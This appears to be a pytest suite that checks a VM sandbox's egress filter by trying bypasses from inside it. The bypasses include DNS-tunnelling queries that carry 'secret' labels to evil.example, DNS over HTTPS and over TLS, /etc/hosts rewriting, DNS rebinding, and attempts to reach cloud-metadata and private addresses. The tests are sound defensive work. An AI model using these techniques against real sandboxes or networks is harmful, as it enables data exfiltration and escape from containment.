"""What a sandbox may reach, by name, address and port: tried from inside a real VM, as root there."""

from __future__ import annotations

import pytest

from tests.support.egress import Box
from tests.support.internet import zone
from tests.support.internet.zone import API, EVIL, METADATA, PRIVATE, RESOLVER, WEB, WEB6

pytestmark = pytest.mark.vm

HTTPS_TO_WEB = (6, WEB, 443)
HTTP_TO_WEB = (6, WEB, 80)


async def test_an_allowed_host_is_reached_and_another_is_not_even_looked_up(box: Box) -> None:
    await box.allow("web.example")
    async with box.denied(reaches=[HTTPS_TO_WEB, HTTP_TO_WEB]):
        assert await box.probe("return fetch('https://web.example/')") == [200, "hello\n"]
        assert await box.probe("return fetch('http://web.example/')") == [200, "hello\n"]
    mark = box.internet.mark()
    async with box.denied("dns_not_allowed"):
        assert "Name or service not known" in await box.probe("return fetch('https://evil.example/')")
    assert [line["name"] for line in box.internet.since(mark, "dns")] == []


async def test_an_empty_list_lets_nothing_out(box: Box) -> None:
    await box.allow()
    async with box.denied("dns_not_allowed", "host_not_allowed", "udp_not_allowed", "address_not_allowed"):
        await box.probe(
            """
            tls(web, 443)
            fetch('https://web.example/')
            https(web, 'web.example')
            http(web, 'web.example')
            udp(web, 5000, b'x', wait=0.1)
            """,
            web=WEB,
        )


async def test_an_address_passes_only_where_it_is_listed(box: Box) -> None:
    await box.allow(EVIL, "45.0.0.128/25", f"[{zone.WEB6}]:443")
    reaches = [(6, EVIL, 80), (6, "45.0.0.200", 443), (6, WEB6, 443)]
    async with box.denied(reaches=reaches):
        assert "hello" in await box.probe("return http(evil, 'anything.example')", evil=EVIL)
        assert await box.probe("return tls('45.0.0.200', 443)") == "connected"
        assert "hello" in await box.probe("return https(web6, 'web.example')", web6=WEB6)
    async with box.denied("address_not_allowed", "port_not_allowed", "host_not_allowed"):
        said = await box.probe("return [tls(web, 443), http(web, 'web.example'), tls(web6, 8443)]", web=WEB, web6=WEB6)
    assert all("200 OK" not in text and text != "connected" for text in said)


async def test_a_port_in_a_rule_holds(box: Box) -> None:
    await box.allow("web.example:443")
    async with box.denied("port_not_allowed", reaches=[HTTPS_TO_WEB]):
        assert await box.probe("return fetch('https://web.example/')") == [200, "hello\n"]
        assert "ACCESS_DENIED" in (await box.probe("return https(web, 'web.example', port=8443)", web=WEB)).upper()
        assert "403" in await box.probe("return http(web, 'web.example')", web=WEB)


async def test_a_wildcard_is_for_names_below_and_not_for_the_bare_one(box: Box) -> None:
    await box.allow("*.web.example")
    async with box.denied(reaches=[(6, "45.0.0.12", 443)]):
        assert await box.probe("return fetch('https://sub.web.example/')") == [200, "hello\n"]
        assert await box.probe("return fetch('https://a.b.web.example/')") == [200, "hello\n"]
    async with box.denied("dns_not_allowed", "host_not_allowed"):
        await box.probe(
            """
            resolve('web.example'), resolve('evilweb.example'), resolve('web.example.evil.example')
            https('45.0.0.12', 'web.example')
            https('45.0.0.12', 'subweb.example')
            """
        )


async def test_case_trailing_dots_and_punycode_are_one_name(box: Box) -> None:
    await box.allow("WEB.Example.", "bücher.example")
    async with box.denied(reaches=[HTTPS_TO_WEB, (6, "45.0.0.13", 443)]):
        assert await box.probe("return fetch('https://xn--bcher-kva.example/')") == [200, "hello\n"]
        said = await box.probe(
            """
            resolve('wEb.eXample'), resolve('web.example.')
            return [tls(web, 443, 'WEB.EXAMPLE', verify=False), tls(web, 443, 'web.example.', verify=False)]
            """,
            web=WEB,
        )
    assert said == ["connected"] * 2


async def test_the_name_must_be_at_the_address(box: Box) -> None:
    await box.allow("web.example", "api.example")
    async with box.denied("address_mismatch", "address_not_allowed"):
        said = await box.probe(
            """
            resolve('web.example'), resolve('api.example')
            return [
                https(evil, 'web.example'),            # an allowed name, an address of nobody's
                https(api, 'web.example'),             # an allowed name, the address of another allowed one
                http(api, 'web.example'),
                tls(evil, 443),
            ]
            """,
            evil=EVIL, api=API,
        )  # fmt: skip
    assert all("200 OK" not in text and text != "connected" for text in said)


async def test_no_server_name_is_no_name(box: Box) -> None:
    await box.allow("web.example")
    async with box.denied("no_server_name"):
        assert "connected" not in await box.probe("resolve('web.example'); return tls(web, 443)", web=WEB)
        await box.probe("return tcp(web, 80, b'GET / HTTP/1.0\\r\\n\\r\\n')", web=WEB)


async def test_hosts_file_and_a_resolver_of_the_guests_own(box: Box) -> None:
    await box.allow("web.example")
    async with box.denied("address_mismatch", "udp_not_allowed", "address_not_allowed", "host_not_allowed"):
        await box.probe(
            """
            with open('/etc/hosts', 'a+') as file:
                file.seek(0)
                before = file.read()
                file.write(f'{evil} web.example\\n{web} evil.example\\n')
            try:
                fetch('https://web.example/'), fetch('https://evil.example/')
            finally:
                with open('/etc/hosts', 'w') as file:
                    file.write(before)
            udp(resolver, 53, dns_query('evil.example'), wait=0.2)
            tcp(resolver, 53, b'\\0\\x1e' + dns_query('evil.example'))
            """,
            evil=EVIL, web=WEB, resolver=RESOLVER,
        )  # fmt: skip


async def test_rebinding_leads_nowhere(box: Box) -> None:
    await box.allow(zone.REBINDING, "web.example")
    async with box.denied("dns_blocked_answer", "blocked_address"):
        answers = await box.probe("return [resolve('rebind.example') for _ in range(4)]")
        assert answers[0] == [zone.REBINDING_ADDRESSES[0]]
        said = await box.probe(
            "return [https(private, 'rebind.example'), http(private, 'rebind.example')]", private=PRIVATE
        )
    assert all("hello" not in text for text in said)


@pytest.mark.parametrize(
    "name", ["cname-private.example", "private.example", "meta.example", "loop.example", "mapped.example"]
)
async def test_a_name_does_not_lead_to_a_private_address(box: Box, name: str) -> None:
    await box.allow(name)
    async with box.denied("dns_blocked_answer"):
        assert "Name or service not known" in await box.probe("return resolve(name)", name=name)


async def test_a_name_does_not_lead_to_the_host(box: Box) -> None:
    await box.allow("uplink.example")
    async with box.denied("blocked_address"):
        said = await box.probe("resolve('uplink.example'); return https(uplink, 'uplink.example')", uplink=zone.UPLINK4)
    assert "connected" not in said


async def test_of_mixed_answers_the_public_ones_remain(box: Box) -> None:
    await box.allow("mixed.example", "cdn.example", "six.example")
    async with box.denied(reaches=[HTTPS_TO_WEB, (6, "2a0a:1::14", 443)]):
        assert await box.probe("return resolve('mixed.example')") == [WEB]
        assert await box.probe("return fetch('https://cdn.example/')") == [200, "hello\n"]
        assert await box.probe("return fetch('https://six.example/')") == [200, "hello\n"]


@pytest.mark.parametrize("allow", [None, ["web.example"], ["0.0.0.0/0", "[::/0]"]], ids=["open", "names", "all ranges"])
async def test_private_and_metadata_addresses_are_out_of_reach_whatever_is_allowed(
    box: Box, allow: list[str] | None
) -> None:
    if allow is None:
        await box.open()
    else:
        await box.allow(*allow)
    reason = {"private_dropped", "host_dropped"} if allow is None else {"blocked_address", "host_dropped"}
    async with box.denied(*reason):
        said = await box.probe(
            """
            targets = [private, metadata, '192.168.0.1', '127.1.2.3', '100.64.0.1', '224.0.0.1', 'fd00::1', 'fe80::1%2']
            return [tcp(target, 80, request('x'), timeout=0.4) for target in [*targets, '10.0.99.1']]
            """,
            private=PRIVATE, metadata=METADATA,
        )  # fmt: skip
    assert all("HTTP/" not in text for text in said), said


async def test_lookups_carry_nothing_out(box: Box) -> None:
    await box.allow("web.example")
    mark = box.internet.mark()
    async with box.denied("dns_not_allowed", "address_not_allowed", "host_not_allowed"):
        await box.probe(
            """
            for index in range(20):
                udp('10.0.99.1', 53, dns_query(f'secret{index}.t.evil.example', 16))
            question = dns_query('secret.over-tcp.evil.example')
            tcp('10.0.99.1', 53, len(question).to_bytes(2, 'big') + question, timeout=2)
            tls(resolver, 853)                                          # DNS over TLS
            https(web, 'doh.evil.example', '/dns-query')                # DNS over HTTPS
            """,
            resolver=RESOLVER, web=WEB,
        )  # fmt: skip
    assert box.internet.since(mark, "dns") == []


async def test_no_udp_but_dns(box: Box) -> None:
    await box.allow("web.example")
    async with box.denied("udp_not_allowed"):
        said = await box.probe("return [udp(web, port, b'x', 0.2) for port in (443, 853, 123, 53)]", web=WEB)
    assert said == [""] * 4


async def test_records_of_a_service_lead_past_nobody(box: Box) -> None:
    await box.allow("web.example")
    answer = await box.probe("return udp('10.0.99.1', 53, dns_query('web.example', 65))")
    assert "h2" in answer
    assert "h3" not in answer  # QUIC does not pass
    assert "test" not in answer  # the key of an encrypted hello
    assert "\x0a\x01\x02\x03" not in answer  # a hint to a private address


async def test_servers_that_speak_first_and_other_protocols(box: Box) -> None:
    await box.allow("smtp.example:25", "ssh.example:22", f"web.example:{zone.ECHO_PORT}", "api.example")
    reaches = [(6, "45.0.0.21", 25), (6, "45.0.0.20", 22), (6, WEB, zone.ECHO_PORT)]
    async with box.denied(reaches=reaches):
        said = await box.probe(
            """
            names = [resolve(name) for name in ('smtp.example', 'ssh.example', 'web.example', 'api.example')]
            with connect('45.0.0.21', 25) as sock:                     # silent until the server has spoken
                greeting = sock.recv(100)
                sock.sendall(b'QUIT\\r\\n')
                bye = sock.recv(100)
            with connect('45.0.0.20', 22) as sock:
                ssh = sock.recv(100)
            with connect(web, 7000) as sock:
                sock.sendall(bytes(range(256)))
                echo = sock.recv(300)
            return [greeting, bye, ssh, echo.hex()]
            """,
            web=WEB,
        )
    assert said[0].startswith("220 smtp.example")
    assert said[1].startswith("221")
    assert said[2].startswith("SSH-2.0")
    assert said[3] == bytes(range(256)).hex()
    async with box.denied("protocol_not_allowed"):  # a web port of a name is for the web
        await box.probe("resolve('api.example'); return tcp(api, 443, bytes(range(200)))", api=API)


async def test_a_hello_in_pieces_is_read_whole(box: Box) -> None:
    await box.allow("web.example")
    code = """
    resolve('web.example')
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    body = hello[5:]
    parts = [body[i:i + 7] for i in range(0, len(body), 7)]
    records = b''.join(b'\\x16\\x03\\x01' + len(part).to_bytes(2, 'big') + part for part in parts)
    crumbs = [records[i:i + 20] for i in range(0, len(records), 20)]
    said = []
    for pieces in ([hello[:3], hello[3:60], hello[60:]], [records], crumbs):
        with connect(web, 443) as sock:
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for piece in pieces:
                sock.sendall(piece)
                time.sleep(0.01)
            said.append(sock.recv(5))
    return [answer.hex() for answer in said]
    """
    async with box.denied(reaches=[HTTPS_TO_WEB]):
        said = await box.probe(code, name="web.example", web=WEB)
    assert [answer[:4] for answer in said] == ["1603"] * 3  # a handshake record of the server
    async with box.denied("host_not_allowed"):
        said = await box.probe(code, name="evil.example", web=WEB)
    assert said == ["1503030002"] * 3  # an alert


async def test_what_begins_as_tls_and_is_not(box: Box) -> None:
    await box.allow("web.example")
    async with box.denied("malformed"):
        await box.probe(
            """
            resolve('web.example')
            begins = b'\\x16\\x03\\x01'
            for rest in (bytes(99), b'\\x00\\x05\\x01\\0\\0\\x01\\xff', b'\\xff\\xff' + bytes(999)):
                tcp(web, 443, begins + rest)
            """,
            web=WEB,
        )
